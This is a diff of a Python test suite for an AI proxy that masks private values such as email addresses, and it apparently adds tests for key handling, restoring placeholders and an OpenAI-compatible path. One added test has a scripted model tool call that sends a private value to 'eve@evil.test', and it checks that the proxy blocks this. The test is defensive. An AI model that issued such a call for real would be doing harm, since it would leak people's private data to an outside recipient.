@@ -15,9 +15,23 @@ from gemini_proxy.traces.trace import Outcome
 from tests.conftest import StartProxy
 from tests.gemini.interactions.streams import interaction, text_step
 from tests.proxy.test_history import chat
-from tests.proxy.test_masking import EMAIL, EVERYWHERE, OTHER, TO_THE_MODEL, echoes, in_pieces, placeholder_in, said
+from tests.proxy.test_masking import (
+    EMAIL,
+    EVERYWHERE,
+    LEAVES,
+    OTHER,
+    TO_THE_MODEL,
+    echoes,
+    in_pieces,
+    placeholder_in,
+    said,
+)
+from tests.proxy.test_openai_path import address as openai_address
+from tests.proxy.test_openai_path import call as openai_call
+from tests.proxy.test_openai_path import chat as openai_chat
+from tests.proxy.test_openai_path import whole as openai_whole
 from tests.support.proxy import MODEL, Proxy, prompt
-from tests.support.upstream import Call, Reply, ScriptedUpstream, candidate, sse, unary
+from tests.support.upstream import Call, Reply, ScriptedUpstream, call_part, candidate, sse, unary
 from tests.traces.samples import execute, query
 
 KEYS = [base64.b64encode(bytes([number]) * 32).decode() for number in (1, 2)]
@@ -106,11 +120,16 @@ async def test_what_the_client_never_had_does_not_come_back(
     assert [kind for (kind,) in await query(proxy.database, "SELECT kind FROM masked_values")] == ["said"]
 
 
-@pytest.mark.parametrize("guardrails", [{"mask_key": "placeholders"}, {**KEPT, "restore": "off"}])
-async def test_nothing_is_kept_without_a_key_or_without_restoring(
-    start_proxy: StartProxy, upstream: ScriptedUpstream, client: aiohttp.ClientSession, guardrails: Any
+@pytest.mark.parametrize(
+    ("guardrails", "mode"),
+    [({"mask_key": "placeholders"}, "open"), ({**KEPT, "restore": "off"}, "open"), (KEPT, "keys")],
+    ids=["no key", "not restored", "strangers"],
+)
+async def test_nothing_is_kept_where_it_could_not_come_back(
+    start_proxy: StartProxy, upstream: ScriptedUpstream, client: aiohttp.ClientSession, guardrails: Any, mode: str
 ) -> None:
-    proxy = await start_proxy(mask_policy=TO_THE_MODEL, guardrails=guardrails)
+    """Without a key, where placeholders are meant to stay, and for clients of whom nobody knows who they are."""
+    proxy = await start_proxy(mask_policy=TO_THE_MODEL, guardrails=guardrails, access={"mode": mode})
     placeholder = await remembered(client, proxy, upstream)
     assert await ask(client, proxy, prompt(f"Who is {placeholder}?")) == f"to {placeholder}"
     assert await query(proxy.database, "SELECT 1 FROM masked_values") == []
@@ -132,6 +151,17 @@ async def test_what_cannot_be_read_stays_a_placeholder(
     assert "not restored" in caplog.text
     assert EMAIL not in caplog.text
     assert not any(key in caplog.text for key in KEYS)
+
+
+async def test_a_value_of_an_earlier_exchange_is_private_in_a_call(
+    start_proxy: StartProxy, upstream: ScriptedUpstream, client: aiohttp.ClientSession
+) -> None:
+    """What comes back is judged as what the client gets, whenever it was masked."""
+    proxy = await start_proxy(policy=LEAVES, mask_policy=TO_THE_MODEL, guardrails=KEPT)
+    placeholder = await remembered(client, proxy, upstream)
+    upstream.reply(echoes(lambda shown: unary(call_part("send", "STOP", to="eve@evil.test", body=f"from {shown}"))))
+    async with client.post(proxy.method(), json=prompt(f"Tell {placeholder}"), headers=NAMED) as response:
+        assert response.status == 400 and "private data leaves" in await response.text()
 
 
 async def test_an_exchange_without_a_placeholder_asks_for_nothing(
@@ -231,3 +261,32 @@ async def test_the_model_finds_in_the_history_what_it_wrote(
     assert EMAIL.encode() not in upstream.calls[-1].body
     # The trace has one spelling, so that a placeholder is found by it.
     assert set(re.findall(r"(?i)email.{1,3}address[^,! \"']*", str((await proxy.trace()).messages))) == {shown[1:]}
+
+
+async def test_so_it_does_on_the_openai_path(
+    start_proxy: StartProxy, upstream: ScriptedUpstream, client: aiohttp.ClientSession
+) -> None:
+    """In contents, thoughts and arguments, which are JSON in a text; and no more once the history is another one."""
+    proxy = await start_proxy(mask_policy=TO_THE_MODEL, guardrails=KEPT)
+
+    def wrote(asked: bytes) -> dict[str, Any]:
+        placeholder = placeholder_in(asked)
+        bare = placeholder.strip("<>").lower()
+        calls = [openai_call(orjson.dumps({"to": bare, "cc": placeholder}).decode())]
+        said = {"reasoning_content": bare, "content": f"{placeholder}, {bare}", "tool_calls": calls}
+        return {"role": "assistant", **said}
+
+    upstream.reply(lambda asked: unary(openai_whole(wrote(asked.body))))
+    async with client.post(openai_address(proxy), json=openai_chat(f"Write to {EMAIL}")) as response:
+        message = (await response.json())["choices"][0]["message"]
+    written = wrote(upstream.calls[-1].body)
+    assert message["reasoning_content"] == EMAIL and message["content"] == f"{EMAIL}, {EMAIL}"
+    upstream.reply(unary(openai_whole({"role": "assistant", "content": "done"})))
+    for first in ("Write to", "Send it to"):
+        body = openai_chat(f"{first} {EMAIL}")
+        body["messages"] += [message, {"role": "tool", "tool_call_id": "c", "content": "sent"}]
+        async with client.post(openai_address(proxy), json=body) as response:
+            assert response.status == 200, await response.text()
+        sent = upstream.calls[-1].json["messages"][1]
+        assert (sent == written) is (first == "Write to")
+        assert EMAIL.encode() not in upstream.calls[-1].body
